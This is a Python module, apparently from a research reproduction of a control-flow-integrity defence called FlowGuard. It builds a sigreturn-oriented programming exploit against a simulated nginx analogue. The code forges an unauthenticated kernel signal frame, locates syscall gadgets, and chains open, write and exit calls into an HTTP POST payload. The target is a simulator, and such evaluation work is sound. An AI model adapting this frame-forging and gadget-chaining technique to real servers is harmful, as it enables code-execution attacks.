"""Sigreturn-oriented programming (SROP, Bosman & Bos) on the nginx
analogue (§7.1.2).

The payload pivots into the kernel's unauthenticated signal-frame
restore: one hijacked return into libsim's raw ``sigreturn`` wrapper
leaves SP pointing at a forged frame, giving the attacker *every*
register at once — ip lands on the wrapper's own ``syscall; ret``
gadget with ``r0 = OPEN`` preloaded, SP redirected at a follow-up chain
that writes the attacker's data and exits.

FlowGuard detects it at the ``sigreturn`` endpoint: the ret-to-wrapper
edge is outside the ITC-CFG.
"""

from __future__ import annotations

import struct

from repro.attacks.gadgets import find_gadgets
from repro.attacks.recon import ReconReport
from repro.attacks.rop import (
    ATTACK_DATA,
    _p64,
    build_filler,
    frame_glue,
)
from repro.isa.registers import NUM_REGS, SP
from repro.osmodel.kernel import FRAME_SIZE, _FRAME_MAGIC
from repro.osmodel.syscalls import O_CREAT, O_WRONLY, Sys
from repro.workloads.servers import NGINX_VULN_RET_OFFSET


def forge_frame(regs: dict, ip: int) -> bytes:
    """Forge a kernel signal frame (the kernel does not authenticate
    it — the SROP weakness), its flags word zero."""
    values = [0] * NUM_REGS
    for index, value in regs.items():
        values[index] = value & 0xFFFFFFFFFFFFFFFF
    frame = struct.pack(
        f"<{2 + NUM_REGS + 1}Q", _FRAME_MAGIC, *values, ip, 0
    )
    assert len(frame) == FRAME_SIZE
    return frame


def build_srop_payload(
    recon: ReconReport,
    conn_fd: int = 4,
) -> bytes:
    gadgets = find_gadgets(recon.image)
    sigreturn_fn = gadgets.functions["sigreturn"]
    setcontext = gadgets.functions["setcontext"]
    write_fn = gadgets.functions["write"]
    exit_fn = gadgets.functions["exit"]
    # The wrapper's own `syscall; ret` tail: mov(10 bytes) + syscall.
    syscall_gadget = next(
        addr for addr in gadgets.syscall_ret
        if addr == sigreturn_fn + 10
    )

    filler, path_addr, data_addr = build_filler(recon.body_addr)
    glue = frame_glue(recon, conn_fd)

    # Stack picture after the overflow (low -> high):
    #   [filler 64][glue 24][&sigreturn][forged frame][chain2 ...]
    # ret pops &sigreturn; the wrapper's syscall then reads the frame at
    # SP.  The frame sets ip to the syscall;ret gadget with r0=OPEN and
    # SP to chain2, so open() executes and its ret starts chain2.
    chain2_off = (
        NGINX_VULN_RET_OFFSET + 8 + FRAME_SIZE
    )  # offset within the payload
    chain2_addr = recon.body_addr + chain2_off

    frame = forge_frame(
        {
            0: int(Sys.OPEN),
            1: path_addr,
            2: O_CREAT | O_WRONLY,
            SP: chain2_addr,
        },
        ip=syscall_gadget,
    )
    chain2 = b"".join(
        [
            _p64(setcontext),
            _p64(recon.next_open_fd),
            _p64(data_addr),
            _p64(len(ATTACK_DATA)),
            _p64(0),
            _p64(write_fn),
            _p64(exit_fn),
        ]
    )
    return filler + glue + _p64(sigreturn_fn) + frame + chain2


def build_srop_request(recon: ReconReport, conn_fd: int = 4) -> bytes:
    from repro.workloads.servers import nginx_request

    return nginx_request("/x", "POST", build_srop_payload(recon, conn_fd))
